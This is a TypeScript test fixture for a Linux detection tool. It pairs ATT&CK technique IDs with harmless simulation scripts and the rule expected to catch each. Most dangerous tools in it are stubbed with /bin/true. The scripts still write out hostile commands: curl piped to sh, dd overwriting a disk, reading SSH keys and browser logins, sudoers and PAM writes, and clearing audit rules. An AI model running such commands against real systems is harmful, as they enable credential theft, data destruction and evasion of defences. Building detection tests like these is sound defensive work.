import type { Case } from './matcher.ts';

export type Technique = Omit<Case, 'expect'> & { readonly rule: string };

/** A program of this name in the case's directory that does nothing: what counts is that it is started. */
const named = (name: string) => `ln -s /bin/true $D/${name}; $D/${name}`;
const technique = (id: string, what: string, script: string, rule: string): Technique => ({ id, what, script, rule });

/** Further techniques of ATT&CK for Linux and the shipped rule that must see each. Nothing stays changed. */
export const TECHNIQUES: readonly Technique[] = [
  technique('T1003.007', 'memory map by grep', 'sleep 3 & grep r /proc/$!/maps; kill $!', 'process_memory_map_read'),
  technique('T1005', 'a mailbox is read', 'f=/var/mail/bpfwarden-$$; : > $f; cat $f; rm $f', 'database_file_copied'),
  technique('T1007', 'services are listed', `${named('systemctl')} --type=service`, 'services_listed'),
  technique('T1016', 'addresses are listed', `${named('ifconfig')}`, 'network_configuration_listed'),
  technique('T1018', 'neighbours are listed', `${named('arp')} -a`, 'network_configuration_listed'),
  technique(
    'T1027.004',
    'compiled on the spot',
    'echo "int main(){return 0;}" > $D/x.c; gcc -o $D/x $D/x.c',
    'compiler_in_temporary_directory',
  ),
  technique(
    'T1036.003',
    'a shell copied under the name of a service',
    'cp /bin/sh $D/crond; $D/crond -c true',
    'system_program_from_unusual_place',
  ),
  technique(
    'T1036.005',
    'run from a directory named ...',
    'mkdir $D/...; cp /bin/true $D/.../x; $D/.../x',
    'execution_from_hidden_directory',
  ),
  technique('T1036.006', 'a name that ends with a space', 'cp /bin/true "$D/x "; "$D/x "', 'name_ends_with_space'),
  technique(
    'T1037.004',
    'a boot script',
    'f=/etc/init.d/bpfwarden-$$; mkdir -p /etc/init.d; : > $f; rm $f',
    'boot_script_written',
  ),
  technique(
    'T1046',
    'a port scan by the shell',
    'for p in $(seq 2000 2070); do (echo > /dev/tcp/127.0.0.1/$p) 2> /dev/null; done',
    'many_ports_contacted',
  ),
  technique(
    'T1053.006',
    'a transient unit',
    `${named('systemd-run')} --on-active=1h /bin/true`,
    'transient_systemd_unit',
  ),
  technique('T1057', 'processes are listed', 'ps aux', 'processes_listed'),
  technique(
    'T1059.006',
    'Python starts a shell',
    '$PYTHON -c "import os; os.system(\'/bin/sh -c true\')"',
    'interpreter_starts_shell',
  ),
  technique(
    'T1070.002',
    'a log is truncated by truncate',
    'f=/var/log/bpfwarden-$$.log; echo x > $f; truncate -s 0 $f; rm $f',
    'log_truncated',
  ),
  technique(
    'T1070.006',
    'a time is taken from another file',
    ': > $D/x; touch -acmr /bin/ls $D/x',
    'timestamps_forged',
  ),
  technique('T1082', 'the distribution is looked up', 'cat /etc/os-release', 'system_information_listed'),
  technique('T1083', 'all directories are listed', 'ls -R $D', 'files_enumerated'),
  technique(
    'T1105',
    'a download with a shell behind it',
    `${named('curl')} -s http://192.0.2.1/ | sh`,
    'download_feeds_shell|download_piped_to_shell',
  ),
  technique('T1201', 'the password policy is read', 'cat /etc/login.defs', 'password_policy_read'),
  technique('T1222.002', 'everybody may write', ': > $D/x; chmod 777 $D/x', 'permissions_opened_by_command'),
  technique(
    'T1485',
    'a device is overwritten',
    `${named('dd')} if=/dev/zero of=/dev/sdz`,
    'data_overwritten_by_command',
  ),
  technique(
    'T1486',
    'files are renamed in bulk',
    "$PYTHON -c \"import os;[(open(str(i),'w'),os.rename(str(i),str(i)+'.locked')) for i in range(30)]\"",
    'files_renamed_in_bulk',
  ),
  technique('T1489', 'a service is killed', `${named('pkill')} -x bpfwarden-nothing`, 'service_process_killed'),
  technique(
    'T1518.001',
    'agents are looked for',
    'ps aux | grep -E "falcon|auditd|osquery"',
    'security_software_searched',
  ),
  technique('T1529', 'shut down', `${named('shutdown')} -h now`, 'host_shut_down'),
  technique('T1531', 'an account is removed', `${named('userdel')} nobody-here`, 'account_removed'),
  technique(
    'T1543.002',
    'a unit is enabled',
    `${named('systemctl')} enable bpfwarden-nothing`,
    'service_enabled_by_command',
  ),
  technique(
    'T1547.006',
    'a module is configured to load',
    'mkdir -p /etc/modules-load.d; f=/etc/modules-load.d/bpfwarden-$$.conf; : > $f; rm $f',
    'kernel_module_autoload_written',
  ),
  technique('T1548.003', 'rights of sudo are listed', `${named('sudo')} -l`, 'sudo_rights_listed'),
  technique(
    'T1548.003-write',
    'a file in sudoers.d',
    'mkdir -p /etc/sudoers.d; f=/etc/sudoers.d/bpfwarden-$$; echo "# nothing" > $f; rm $f',
    'privilege_configuration_written',
  ),
  technique('T1552.001', 'passwords are searched for', 'grep -ri password $D', 'private_keys_searched'),
  technique(
    'T1552.004',
    'a private key is read',
    'mkdir $D/.ssh; echo x > $D/.ssh/id_rsa; cat $D/.ssh/id_rsa',
    'ssh_private_key_read',
  ),
  technique(
    'T1553.004',
    'a certificate is trusted',
    'mkdir -p /usr/local/share/ca-certificates; f=/usr/local/share/ca-certificates/bpfwarden-$$.crt; : > $f; rm $f',
    'root_certificate_installed',
  ),
  technique(
    'T1555.003',
    'passwords of a browser are read',
    'd=$D/.mozilla/firefox/x.default; mkdir -p $d; : > $d/logins.json; cat $d/logins.json',
    'browser_credentials_read',
  ),
  technique('T1556.003', 'PAM is configured', 'f=/etc/pam.d/bpfwarden-$$; : > $f; rm $f', 'pam_configuration_changed'),
  technique('T1560.001', 'a home is packed', 'tar -czf $D/x.tgz $D; true', 'archive_made_by_command'),
  technique(
    'T1562.001',
    'audit is configured',
    'mkdir -p /etc/rsyslog.d; f=/etc/rsyslog.d/bpfwarden-$$.conf; : > $f; rm $f',
    'logging_configuration_changed',
  ),
  technique(
    'T1562.003',
    'history leaves out commands',
    'HISTCONTROL=ignoreboth /bin/true',
    'history_control_in_environment',
  ),
  technique(
    'T1562.004',
    'a firewall rule is removed',
    `${named('iptables')} -D INPUT 1`,
    'firewall_configuration_changed',
  ),
  technique('T1562.012', 'audit rules are removed', `${named('auditctl')} -D`, 'audit_rules_changed'),
  technique(
    'T1564.001',
    'a hidden directory',
    'mkdir $D/.x; mkdir /srv/.bpfwarden-$$; rmdir /srv/.bpfwarden-$$',
    'hidden_file_in_system_directory',
  ),
  technique(
    'T1571',
    'a program of /tmp listens',
    'cp "$PYTHON" $D/x; PYTHONHOME=$($PYTHON -c "import sys; print(sys.prefix)") timeout 15 $D/x -c "import socket; socket.create_server((\'127.0.0.1\', 0))"',
    'temporary_program_listens',
  ),
  technique(
    'T1574.006',
    'a library is named for all programs',
    'mkdir -p /etc/ld.so.conf.d; f=/etc/ld.so.conf.d/bpfwarden-$$.conf; : > $f; rm $f',
    'library_search_path_changed',
  ),
  technique('T1609', 'a command in a container', `${named('docker')} exec x sh`, 'container_command_executed'),
  technique(
    'T1610',
    'a container with all rights',
    `${named('docker')} run --privileged x`,
    'container_started_with_host_access',
  ),
  technique('T1622', 'is it traced', 'grep TracerPid /proc/self/status', 'debugger_check'),
];
